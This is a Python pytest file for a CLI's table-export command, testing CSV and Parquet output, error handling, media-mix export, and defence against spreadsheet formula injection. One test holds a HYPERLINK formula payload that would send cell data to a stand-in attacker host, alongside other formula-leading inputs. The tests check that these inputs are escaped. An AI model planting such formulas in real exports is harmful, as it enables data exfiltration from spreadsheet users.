from __future__ import annotations

import csv
import json
from datetime import date, timedelta
from itertools import pairwise

import duckdb
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from muster.canonical.tables import Column, flow_tables
from muster.cli.spreadsheet import safe_columns
from muster.testing import company, contact, engaged
from muster.workspace import open_workspace

SIGNS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"


def test_every_table_is_written_as_csv_with_all_its_rows(muster, built, tmp_path):
    result = muster("export", "-w", built, "--to", tmp_path / "out")
    assert result.exit_code == 0
    assert result.stdout.split() == [str(tmp_path / "out" / f"{n}.csv") for n in sorted(flow_tables())]
    published = open_workspace(built).published
    for name, facts in published.manifest["tables"].items():
        with (tmp_path / "out" / f"{name}.csv").open(newline="", encoding="utf-8") as file:
            rows = list(csv.DictReader(file))
        assert len(rows) == facts["rows"]
    assert not list((tmp_path / "out").glob(".*"))


def test_parquet_is_the_published_file_itself(muster, built, tmp_path):
    result = muster("export", "score", "-w", built, "--to", tmp_path, "--format", "parquet", "--json")
    [told] = json.loads(result.stdout)
    published = open_workspace(built).published
    assert told == {
        "table": "score",
        "path": str(tmp_path / "score.parquet"),
        "rows": published.manifest["tables"]["score"]["rows"],
    }
    assert (tmp_path / "score.parquet").read_bytes() == published.path("score").read_bytes()


def test_a_formula_in_a_name_is_only_a_text_after_the_export(muster, tmp_path):
    attack = '=HYPERLINK("https://evil.example?"&A1,"x")'
    company(
        tmp_path / "ws",
        contact("ana@acme.example", title=attack, name="@SUM(A1:A9) Ana"),
        contact("ben@acme.example", title="-5", name="Ben Ray"),
        engaged("2025-03-03 09:00", "ana@acme.example", "webinar_attended"),
    )
    assert muster("export", "person", "-w", tmp_path / "ws", "--to", tmp_path).exit_code == 0
    with (tmp_path / "person.csv").open(newline="", encoding="utf-8") as file:
        rows = {row["email"]: row for row in csv.DictReader(file)}
    assert rows["ana@acme.example"]["title"] == f"'{attack}"
    assert rows["ana@acme.example"]["name"].startswith("'@SUM")
    assert rows["ben@acme.example"]["title"] == "-5"


@pytest.mark.parametrize("text", [f"{sign}SUM(A1)" for sign in SIGNS])
def test_what_starts_like_a_formula_gets_an_apostrophe(text):
    assert _exported(text) == f"'{text}"


@pytest.mark.parametrize("text", ["-5", "+5", "-1.5e3", "-.5", "+1.", "a=1", " =1", "", "'=1", "1-1", "ü"])
def test_numbers_and_plain_texts_stay_as_they_are(text):
    assert _exported(text) == text


@given(st.text(alphabet="=+-@\t\r\n\uff1d'.0123456789eE ax", max_size=12))
@example("-1\n=2")
@example("+1e")
@example("-5\n")
def test_an_export_starts_like_a_formula_only_where_it_is_a_number(text):
    exported = _exported(text)
    assert exported in {text, f"'{text}"}
    if exported[:1] in tuple(SIGNS):
        float(exported)  # raises where it is no number
        assert exported == exported.strip()


def test_a_wrong_table_is_named_before_anything_is_written(muster, built, tmp_path):
    result = muster("export", "score", "scroe", "-w", built, "--to", tmp_path / "out")
    assert result.exit_code == 2
    assert "scroe" in result.stderr
    assert not (tmp_path / "out").exists()


def test_a_file_is_no_place_for_an_export(muster, built, tmp_path):
    (tmp_path / "out").touch()
    assert muster("export", "-w", built, "--to", tmp_path / "out").exit_code == 2


def test_a_missing_table_file_needs_a_look(muster, acme, tmp_path):
    open_workspace(acme).published.path("score").unlink()
    result = muster("export", "score", "-w", acme, "--to", tmp_path)
    assert result.exit_code == 1
    assert "muster run" in result.stderr


def _exported(text: str) -> str:
    select = safe_columns([Column("said", "text", "")])
    [(found,)] = CONNECTION.execute(f"SELECT {select} FROM (SELECT ? AS said)", [text]).fetchall()
    return str(found)


CONNECTION = duckdb.connect()


def test_the_media_mix_has_every_cent_of_spend_and_every_week(muster, demo, tmp_path):
    said = json.loads(muster("export", "-w", demo, "--media-mix", "--to", tmp_path, "--json").stdout)
    rows = list(csv.DictReader((tmp_path / "media_mix.csv").open(encoding="utf-8")))
    weeks = [date.fromisoformat(row["week"]) for row in rows]
    assert all(b - a == timedelta(days=7) for a, b in pairwise(weeks)) and said["rows"] == len(weeks)
    spent = sum(c["spend_cents"] for c in said["channels"]) + said["left_out_cents"]
    cost = "SELECT SUM(cost_cents) AS c FROM program_value WHERE attribution_model = 'linear'"
    [booked] = open_workspace(demo).query(cost).to_pylist()
    assert spent == booked["c"]
    openings = "SELECT COUNT(*) AS n FROM known_opportunity WHERE type IS NULL OR type <> 'renewal'"
    [opened] = open_workspace(demo).query(openings).to_pylist()
    assert 0.95 * opened["n"] <= sum(int(row["openings"]) for row in rows) <= opened["n"], "whole weeks alone"


def test_the_media_mix_is_a_panel_of_its_own(muster, demo, tmp_path):
    assert muster("export", "credit", "-w", demo, "--media-mix", "--to", tmp_path).exit_code == 2
    assert muster("export", "-w", demo, "--by", "region", "--to", tmp_path).exit_code == 2
    by_country = muster(
        "export", "-w", demo, "--media-mix", "--by", "country", "--format", "parquet", "--to", tmp_path
    )
    assert by_country.exit_code == 0 and (tmp_path / "media_mix.parquet").is_file()
